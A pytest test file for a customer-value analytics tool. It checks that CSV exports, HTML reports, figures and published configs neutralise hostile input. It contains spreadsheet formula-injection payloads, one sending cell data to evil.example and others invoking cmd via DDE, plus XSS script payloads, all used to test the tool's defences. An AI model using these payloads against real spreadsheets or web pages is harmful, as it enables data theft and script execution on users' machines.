"""Injection (issue 11, items 5-8), driven through the command line.

Untrusted text -- customer ids, tier labels, playbook actions, the title, the currency, file
and column names -- must stay inert: no live spreadsheet formula in a CSV export, no script in
a report, no mathtext in a figure, no secret in what a run publishes.
"""
from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import nbformat
import pandas as pd
import pytest
import yaml

from clvkit import cli
from clvkit.datasets import load_cdnow

ROOT = Path(__file__).resolve().parents[1]
CHROMIUM = "/usr/bin/chromium"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EVIL_IDS = {1: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", 2: "+cmd|' /C calc'!A0",
            3: "-2+3+cmd|' /C calc'!A0", 4: "@SUM(1+1)*cmd|' /C calc'!A0", 5: "'=already quoted"}
LABELS = ["=HYPERLINK(\"http://evil.example\",\"VIP\")", "+regular", "@potential"]


def run(capsys, *args):
    code = cli.main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


def clvkit(*args, cwd=None):
    exe = Path(sys.executable).with_name("clvkit")
    return subprocess.run([str(exe), *map(str, args)], capture_output=True, text=True,
                          cwd=cwd or ROOT, env={**os.environ, "PYTHONIOENCODING": "utf-8"},
                          timeout=900)


@pytest.fixture(scope="module")
def evil_scenario(tmp_path_factory):
    """CDNOW with a few formula ids, formula tier labels and tab / CR actions."""
    folder = tmp_path_factory.mktemp("evil")
    tx = load_cdnow("sample")[["customer_id", "date", "amount"]]
    ids = tx["customer_id"].map(lambda i: EVIL_IDS.get(i, f"C{i:04d}"))
    tx.assign(customer_id=ids).to_csv(folder / "tx.csv", index=False)
    params = {"scenario": "evil", "data": {"source": "files", "transactions": {"path": "tx.csv"}},
              "satisfaction": {"enabled": False}, "impact": {"enabled": False},
              "tiers": {"rules": [{"label": LABELS[0], "share": 0.1},
                                  {"label": LABELS[1], "share": 0.4},
                                  {"label": LABELS[2], "share": 0.5}]},
              "playbook": {"tiers": {LABELS[0]: "\tcall them", LABELS[1]: "\r=1+1",
                                     LABELS[2]: "-send coupon"}}}
    (folder / "evil.yaml").write_text(yaml.safe_dump(params, allow_unicode=True), encoding="utf-8")
    return folder


def cells(path: Path):
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    return rows[0], rows[1:]


def assert_inert(path: Path):
    header, rows = cells(path)
    for cell in [*header, *(c for row in rows for c in row)]:
        assert not cell.startswith(TRIGGERS), (path.name, cell)


# -------------------------------------------------------------------- 5. CSV formulas
def test_every_csv_export_is_inert_and_parquet_keeps_raw_values(capsys, evil_scenario):
    out = evil_scenario / "out"
    code, _, err = run(capsys, "score", evil_scenario / "evil.yaml", "--out", out)
    assert code == 0, err
    for name in ("tiers.csv", "watchlist.csv"):
        assert_inert(out / name)
    header, rows = cells(out / "tiers.csv")
    col = {name: i for i, name in enumerate(header)}
    ids = {r[col["customer_id"]] for r in rows}
    for raw in EVIL_IDS.values():
        assert "'" + raw in ids  # each trigger (and a leading quote) gets exactly one quote
    assert {r[col["tier"]] for r in rows} == {"'" + label for label in LABELS}
    actions = {r[col["action"]] for r in rows}
    assert {"'\tcall them", "'\r=1+1", "'-send coupon"} <= actions
    # numbers are left alone: every CLV cell is a plain number
    assert all(float(r[col["clv"]]) >= 0 for r in rows)
    assert all(re.fullmatch(r"[\d.e+-]+", r[col["clv"]]) for r in rows)
    raw = pd.read_parquet(out / "tiers.parquet")
    assert set(EVIL_IDS.values()) <= set(raw["customer_id"])
    assert set(raw["tier"]) == set(LABELS)
    assert "\tcall them" in set(raw["action"])


def test_neutralised_csv_reads_back_exactly_as_previous_run(capsys, evil_scenario, tmp_path):
    first = tmp_path / "first"
    assert run(capsys, "score", evil_scenario / "evil.yaml", "--out", first)[0] == 0
    params = yaml.safe_load((evil_scenario / "evil.yaml").read_text(encoding="utf-8"))
    params["data"]["transactions"]["path"] = str(evil_scenario / "tx.csv")
    params["previous_run"] = str(first / "tiers.csv")
    second_params = tmp_path / "second.yaml"
    second_params.write_text(yaml.safe_dump(params, allow_unicode=True), encoding="utf-8")
    code, _, err = run(capsys, "score", second_params, "--out", tmp_path / "second")
    assert code == 0, err
    for name in ("migration.csv", "migration_moves.csv"):
        assert_inert(tmp_path / "second" / name)
    moves = pd.read_csv(tmp_path / "second" / "migration.csv")
    # same data, same tiers: every customer stayed, and the labels matched after reading back
    header = [c for c in moves.columns]
    assert {"'" + label for label in LABELS} <= set(header)
    diag = sum(moves.set_index(moves.columns[0]).loc["'" + label, "'" + label]
               for label in LABELS)
    assert diag == len(pd.read_parquet(first / "tiers.parquet"))


# ------------------------------------------------------------ 7. tier labels with $
@pytest.fixture(scope="module")
def dollar_run(tmp_path_factory):
    folder = tmp_path_factory.mktemp("dollar")
    params = yaml.safe_load((ROOT / "params" / "retail.yaml").read_text(encoding="utf-8"))
    params.update(scenario="dollar", currency="US$", title="$$ money $$")
    params["data"]["simulate"]["customers"] = 800
    params["tiers"]["rules"] = [{"label": "$$$", "share": 0.1}, {"label": "$$", "share": 0.4},
                                {"label": "$", "share": 0.5}]
    params["tiers"]["prospect_label"] = "$0"
    params["playbook"]["tiers"] = {"$$$": "call", "$$": "coupon", "$": "offer", "$0": "welcome"}
    params["playbook"]["table"] = {"$$$": {"dormant": "save call", "lost": "$ave $$ offer"}}
    path = folder / "dollar.yaml"
    path.write_text(yaml.safe_dump(params, allow_unicode=True), encoding="utf-8")
    res = clvkit("report", path, "--out", folder / "reports", "--run-date", "2024-12-31",
                 "--only", "03_tiers")
    return folder, res


def test_dollar_tier_labels_render_literally(dollar_run):
    folder, res = dollar_run
    assert res.returncode == 0, res.stderr
    page = (folder / "reports" / "dollar" / "2024-12-31" / "03_tiers.html").read_text("utf-8")
    for label in ("$$$", "$$", "$0"):
        assert f">{label}<" in page  # a table cell with the label, as written


def test_plots_draw_dollar_labels_without_mathtext(tmp_path):
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    from clvkit import plots

    summary = pd.DataFrame({"tier": ["$$$", "$$", "$"], "customer_share": [0.1, 0.4, 0.5],
                            "clv_share": [0.5, 0.4, 0.1]})
    ax = plots.tier_profile(summary)
    ax.figure.savefig(tmp_path / "t.png")  # mathtext would raise on "$$$"
    labels = [t.get_text() for t in ax.get_xticklabels()]
    assert [t._preprocess_math(t.get_text())[0] for t in ax.get_xticklabels()] == \
        ["$$$", "$$", "$"], labels
    assert (ax.get_title(loc="left") or ax.get_title()).startswith(r"\$\$\$")
    matrix = pd.DataFrame([[1, 2], [3, 4]], index=["$a$", "$b$"], columns=["$c$", "$$"])
    ax = plots.heatmap(matrix, title="$x$", xlabel="$", ylabel="$$", colorbar="$y$", fmt="d")
    ax.figure.savefig(tmp_path / "h.png")
    ticks = [t._preprocess_math(t.get_text()) for t in ax.get_yticklabels()]
    assert ticks == [("$a$", False), ("$b$", False)]
    plt.close("all")


# ----------------------------------------------------- 8. effective config, secrets masked
def tiny_notebooks(folder: Path) -> Path:
    nb = nbformat.v4.new_notebook()
    params = nbformat.v4.new_code_cell('params = ""\nrun_date = None')
    params.metadata["tags"] = ["parameters"]
    nb.cells = [nbformat.v4.new_markdown_cell("# Tiny"), params,
                nbformat.v4.new_code_cell("print('ok')")]
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / "01_tiny.ipynb")
    return folder


def test_run_json_and_index_publish_the_effective_config_with_secrets_masked(tmp_path):
    shutil.copy(ROOT / "tests" / "data" / "good" / "transactions.csv", tmp_path / "tx.csv")
    import sqlite3

    frame = load_cdnow("sample")[["customer_id", "date", "amount"]]
    with sqlite3.connect(tmp_path / "shop.db") as con:
        frame.assign(date=frame["date"].dt.strftime("%Y-%m-%d")).to_sql("tx", con, index=False)
    (tmp_path / "secret.yaml").write_text(
        "# ops note: the warehouse password is hunter1, do not share\n"
        "scenario: secret\n"
        "data:\n  source: files\n"
        "  transactions: {url: 'sqlite:///shop.db?token=hunter2', table: tx}\n"
        "satisfaction: {enabled: false}\nimpact: {enabled: false}\n"
        "spark: {conf: {spark.hadoop.fs.s3a.secret.key: hunter3, spark.executor.memory: 2g}}\n",
        encoding="utf-8")
    res = clvkit("report", tmp_path / "secret.yaml", "--out", tmp_path / "reports",
                 "--run-date", "2024-12-31", "--notebooks", tiny_notebooks(tmp_path / "nb"),
                 cwd=ROOT / "src")  # the relative sqlite URL is found beside the params file
    assert res.returncode == 0, res.stderr
    run_dir = tmp_path / "reports" / "secret" / "2024-12-31"
    for name in ("index.html", "appendix.html", "run.json"):
        text = (run_dir / name).read_text(encoding="utf-8")
        assert not re.search(r"hunter\d", text), name
        assert "ops note" not in text
    meta = json.loads((run_dir / "run.json").read_text(encoding="utf-8"))
    assert "params_text" not in meta
    cfg = meta["config"]
    assert cfg["spark"]["conf"] == {"spark.hadoop.fs.s3a.secret.key": "***",
                                    "spark.executor.memory": "2g"}
    assert cfg["data"]["transactions"]["url"] == \
        f"sqlite:///{tmp_path / 'shop.db'}?token=***"
    assert cfg["cleaning"]["max_drop_share"] == 0.05  # defaults are published too
    # the effective configuration is on the appendix page (the index is the summary)
    assert "max_drop_share: 0.05" in (run_dir / "appendix.html").read_text(encoding="utf-8")


def test_public_dict_masks_database_passwords():
    from clvkit.config import Config

    cfg = Config.from_dict({"scenario": "a", "satisfaction": {"enabled": False},
                            "impact": {"enabled": False},
                            "data": {"source": "files", "transactions": {
                                "url": "postgresql://bob:s3cr%40t@db:5432/shop?sslmode=require",
                                "table": "tx"}}})
    url = cfg.public_dict()["data"]["transactions"]["url"]
    assert url == "postgresql://bob:***@db:5432/shop?sslmode=require"
    assert cfg.to_dict()["data"]["transactions"]["url"].startswith("postgresql://bob:s3cr")


# --------------------------------------------------- 6. script injection, in a browser
XSS = "<img src=x onerror=alert(document.domain)>"


@pytest.fixture(scope="module")
def xss_run(tmp_path_factory):
    """A file scenario where every user string carries a script."""
    folder = tmp_path_factory.mktemp("xss")
    sim = folder / "sim"
    assert clvkit("simulate", "--customers", 600, "--out", sim, "--no-programme").returncode == 0
    evil_name = f"tx {XSS}.csv"
    shutil.move(sim / "transactions.csv", sim / evil_name)
    customers = pd.read_csv(sim / "customers.csv").rename(columns={"region": XSS + "region"})
    customers["channel"] = customers["channel"].where(customers.index % 7 > 0,
                                                      "<script>alert('cell')</script>")
    customers.to_csv(sim / "customers.csv", index=False)
    params = yaml.safe_load((ROOT / "params" / "retail.yaml").read_text(encoding="utf-8"))
    params.update(scenario="xss", title=f"<script>alert('title')</script>{XSS}",
                  currency=f"<script>alert('currency')</script>{XSS}")
    params["data"] = {"source": "files",
                      "transactions": {"path": f"sim/{evil_name}"},
                      "customers": {"path": "sim/customers.csv", "date": "signup_date"}}
    params["satisfaction"] = {"enabled": False}
    params["impact"] = {"enabled": False}
    labels = [f"VIP{XSS}", "<script>alert('tier')</script>", "[x](javascript:alert(1))"]
    params["tiers"] = {"rules": [{"label": labels[0], "share": 0.1},
                                 {"label": labels[1], "share": 0.4},
                                 {"label": labels[2], "share": 0.5}],
                       "prospect_label": f"prospect{XSS}",
                       "second_dimension": {"column": XSS + "region", "method": "categories"}}
    params["playbook"] = {"require_actions": False,
                          "tiers": {labels[0]: f"<b onmouseover=alert(1)>call</b>{XSS}"}}
    params["summary"].pop("calibration_end", None)
    path = folder / "xss.yaml"
    path.write_text(yaml.safe_dump(params, allow_unicode=True), encoding="utf-8")
    res = clvkit("report", path, "--out", folder / "reports", "--run-date", "2024-12-31")
    assert res.returncode == 0, res.stderr
    return folder / "reports" / "xss" / "2024-12-31"


@pytest.fixture(scope="module")
def browser():
    if not Path(CHROMIUM).exists():
        if os.environ.get("CLVKIT_REQUIRE_BROWSER") == "1":
            pytest.fail(f"{CHROMIUM} is missing but CLVKIT_REQUIRE_BROWSER=1")
        pytest.skip(f"{CHROMIUM} not installed: apt-get install chromium")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        b = pw.chromium.launch(executable_path=CHROMIUM,
                               args=["--no-sandbox", "--disable-gpu", "--no-first-run"])
        yield b
        b.close()


@pytest.mark.browser
@pytest.mark.slow
def test_no_script_runs_in_any_report(xss_run, browser):
    pages = sorted(xss_run.glob("*.html"))
    assert {p.stem for p in pages} >= {"index", "01_data_quality", "03_tiers"}
    for page_path in pages:
        page = browser.new_page()
        dialogs = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto(page_path.as_uri(), wait_until="load")
        page.wait_for_timeout(300)
        for el in page.query_selector_all("b, img, a")[:200]:  # mouse-over / click handlers
            try:
                el.hover(timeout=200)
            except Exception:
                pass
        assert dialogs == [], (page_path.name, dialogs)
        assert page.evaluate("document.querySelectorAll('img[onerror], b[onmouseover]').length") \
            == 0, page_path.name
        assert page.evaluate("[...document.querySelectorAll('a[href^=javascript]')].length") \
            == 0, page_path.name
        page.close()
    text = (xss_run / "03_tiers.html").read_text(encoding="utf-8")
    q = r"(?:&#x27;|&#39;|')"
    assert re.search(rf"&lt;script&gt;alert\({q}tier{q}\)&lt;/script&gt;", text)  # shown as text
